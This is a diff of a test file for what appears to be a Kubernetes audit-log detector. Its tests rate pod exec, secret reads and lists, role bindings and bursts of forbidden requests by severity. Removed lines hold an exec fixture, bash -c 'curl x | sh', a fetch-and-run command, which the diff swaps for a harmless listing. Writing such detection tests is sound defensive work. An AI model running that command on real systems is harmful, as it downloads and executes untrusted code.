@@ -7,7 +7,7 @@ import copy
 import orjson
 import pytest
 
-from ktriage.core.detect.audit import spec_from_json_patch
+from ktriage.core.detect.podspec import spec_from_json_patch
 from ktriage.core.ingest import Ingestor
 from ktriage.core.model import EntityKind, Event, Severity, entity
 
@@ -91,7 +91,7 @@ def only_signal(*records: dict) -> Event:
 def test_exec_over_spdy_and_websocket() -> None:
     uri = (
         "/api/v1/namespaces/payments/pods/api-7d9f/exec"
-        "?command=bash&command=-c&command=curl%20x%20%7C%20sh&stdin=true"
+        "?command=bash&command=-c&command=ls%20-la%20%7C%20head&stdin=true"
     )
     for verb in ("create", "get"):
         ev = only_signal(
@@ -110,7 +110,7 @@ def test_exec_over_spdy_and_websocket() -> None:
         assert ev.severity == Severity.MEDIUM
         assert ev.attack.technique == "T1609"
         assert entity(EntityKind.POD, "payments", "api-7d9f") in ev.entities
-        assert ev.summary == "alice exec into payments/api-7d9f: bash -c 'curl x | sh'"
+        assert ev.summary == "alice exec into payments/api-7d9f: bash -c 'ls -la | head'"
 
 
 def test_exec_reading_token_is_high_and_denied_exec_is_low() -> None:
@@ -200,13 +200,33 @@ def test_cluster_wide_secret_list_by_service_account_is_high() -> None:
 def test_secret_reads_by_control_plane_are_context() -> None:
     events = run(
         audit("get", "secrets", name="x", user="system:kube-controller-manager"),
-        audit("list", "secrets", ns=None, user="system:node:worker-1", aid="2"),
+        # a kubelet reads (or watches, by name) the secrets of the pods bound to it
+        audit("get", "secrets", name="db", user="system:node:worker-1", aid="2"),
         audit(
-            "get", "secrets", name="x", user="system:serviceaccount:kube-system:coredns", aid="3"
+            "watch", "secrets", name="db", user="system:node:worker-1", aid="3",
+            uri="/api/v1/namespaces/payments/secrets?fieldSelector=metadata.name%3Ddb&watch=true",
         ),
-    )
+    )  # fmt: skip
     assert signals(events) == []
     assert {e.kind for e in events} == {"secret-read", "secret-list"}
+
+
+def test_node_listing_all_secrets_is_high() -> None:
+    ev = only_signal(audit("list", "secrets", ns=None, user="system:node:worker-1"))
+    assert ev.kind == "secret-list"
+    assert ev.severity == Severity.HIGH
+    assert ev.label == "Node credential listing secrets"
+
+
+def test_kube_system_service_account_is_a_normal_identity() -> None:
+    ev = only_signal(
+        audit("list", "secrets", ns=None, user="system:serviceaccount:kube-system:coredns")
+    )
+    assert ev.severity == Severity.HIGH
+    ev = only_signal(
+        audit("get", "secrets", name="x", user="system:serviceaccount:kube-system:coredns")
+    )
+    assert ev.severity == Severity.MEDIUM
 
 
 def test_secret_create_is_not_a_read() -> None:
@@ -239,7 +259,9 @@ def test_cluster_admin_binding() -> None:
 
 def test_admin_rolebinding_is_medium_and_view_is_context() -> None:
     assert only_signal(binding("admin", resource="rolebindings")).severity == Severity.MEDIUM
-    assert signals(run(binding("view"))) == []
+    view = only_signal(binding("view"))  # a grant to a service account: low, for the record
+    assert view.severity == Severity.LOW
+    assert view.label == "Role binding to service account"
     assert signals(run(binding("cluster-admin", user="system:apiserver"))) == []
 
 
@@ -454,9 +476,13 @@ def test_forbidden_burst_out_of_order_and_second_burst() -> None:
 
 
 def test_forbidden_from_control_plane_is_ignored() -> None:
-    user = "system:serviceaccount:kube-system:coredns"
+    user = "system:serviceaccount:kube-system:replicaset-controller"
     events = run(*[denied(i, i, user=user) for i in range(20)])
     assert not [e for e in events if e.kind == "forbidden-burst"]
+    # any other kube-system account is judged like anyone
+    user = "system:serviceaccount:kube-system:coredns"
+    events = run(*[denied(i, i, user=user) for i in range(20)])
+    assert len([e for e in events if e.kind == "forbidden-burst"]) == 1
 
 
 # -- node proxy, tokens, security tooling ----------------------------------------------
